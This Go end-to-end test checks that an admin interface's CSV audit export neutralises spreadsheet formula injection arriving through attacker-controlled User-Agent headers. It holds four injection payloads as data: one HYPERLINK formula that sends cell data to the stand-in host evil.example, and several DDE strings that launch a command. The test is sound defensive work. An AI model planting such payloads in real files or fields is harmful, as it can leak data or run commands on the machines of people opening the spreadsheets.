package security

import (
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"threatview/e2e/internal/e2etest"
	"threatview/platform/testenv"
)

// uiClient is a browser-like client of the admin interface that keeps its
// cookies by hand: they are Secure and __Host- prefixed, which Go's cookie
// jar does not send over the local stack's plain HTTP.
type uiClient struct {
	t       *testing.T
	base    string
	cookies map[string]string
}

func (c *uiClient) do(method, path string, form url.Values) (*http.Response, []byte) {
	c.t.Helper()
	var body io.Reader
	if form != nil {
		body = strings.NewReader(form.Encode())
	}
	req, err := http.NewRequest(method, c.base+path, body)
	if err != nil {
		c.t.Fatal(err)
	}
	if form != nil {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Origin", c.base)
	}
	for k, v := range c.cookies {
		req.AddCookie(&http.Cookie{Name: k, Value: v})
	}
	hc := &http.Client{Timeout: time.Minute, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := hc.Do(req)
	if err != nil {
		c.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	out, _ := io.ReadAll(resp.Body)
	for _, ck := range resp.Cookies() {
		if ck.MaxAge < 0 {
			delete(c.cookies, ck.Name)
		} else {
			c.cookies[ck.Name] = ck.Value
		}
	}
	return resp, out
}

var csrfField = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

// TestAuditExport_HostileCells: the collector audits the requests it
// refuses with the sender's User-Agent, so anyone on the internet writes
// into the audit trail. An auditor's CSV export must not hand a
// spreadsheet a formula: every cell starting with =, +, - or @ comes out
// with a leading apostrophe.
func TestAuditExport_HostileCells(t *testing.T) {
	e := mustIdentity(t)
	uiURL := strings.TrimRight(testenv.MustEnv(t, "THREATVIEW_ADMIN_UI_URL"), "/")
	admin := e.login(t, e.adminUser, e.adminPassword).AccessToken
	auditor, auditorPW := e.person(t, admin, "csv-auditor", "auditor")

	marker := e2etest.Name("csv")
	hostile := map[string]string{}
	for _, p := range []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"} {
		hostile[p+" "+marker] = ""
	}
	start := time.Now().UTC().Add(-time.Minute)
	for ua := range hostile {
		r := e2etest.Do(t, http.MethodPost, e.CollectorURL+"/v1/events", "tvt_not-a-token-"+marker, e2etest.GoodEvent("csv-app", e2etest.UUID()),
			map[string]string{"User-Agent": ua, "Content-Type": "application/json"})
		if r.Status != http.StatusUnauthorized {
			t.Fatalf("collector answered %d to a bad token, want 401", r.Status)
		}
	}

	ui := &uiClient{t: t, base: uiURL, cookies: map[string]string{}}
	_, page := ui.do(http.MethodGet, "/login", nil)
	m := csrfField.FindSubmatch(page)
	if m == nil {
		t.Fatalf("no CSRF field on the sign-in page:\n%.500s", page)
	}
	resp, _ := ui.do(http.MethodPost, "/login", url.Values{"csrf": {string(m[1])}, "username": {auditor}, "password": {auditorPW}, "next": {"/audit"}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("sign-in to the admin interface as an auditor: %d", resp.StatusCode)
	}

	q := url.Values{"searched": {"1"}, "from": {start.Format("2006-01-02T15:04:05")}}
	var rows [][]string
	col := map[string]int{}
	err := e2etest.WaitFor(30*time.Second, func() (bool, error) {
		resp, body := ui.do(http.MethodGet, "/audit/export.csv?"+q.Encode(), nil)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("CSV export: %d %.300s", resp.StatusCode, body)
		}
		all, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
		if err != nil || len(all) == 0 {
			t.Fatalf("CSV export does not parse: %v", err)
		}
		for i, name := range all[0] {
			col[name] = i
		}
		rows = rows[:0]
		for _, r := range all[1:] {
			if strings.Contains(r[col["user_agent"]], marker) {
				rows = append(rows, r)
			}
		}
		return len(rows) >= len(hostile), nil
	})
	if err != nil {
		t.Fatalf("the refused requests' audit rows: %d of %d in the export after 30 s", len(rows), len(hostile))
	}
	for _, r := range rows {
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("exported cell %d = %q starts a formula", i, cell)
			}
		}
		ua := r[col["user_agent"]]
		if _, ok := hostile[strings.TrimPrefix(ua, "'")]; !ok || !strings.HasPrefix(ua, "'") {
			t.Errorf("exported user_agent %q, want a sent one with a leading apostrophe", ua)
		}
	}
}
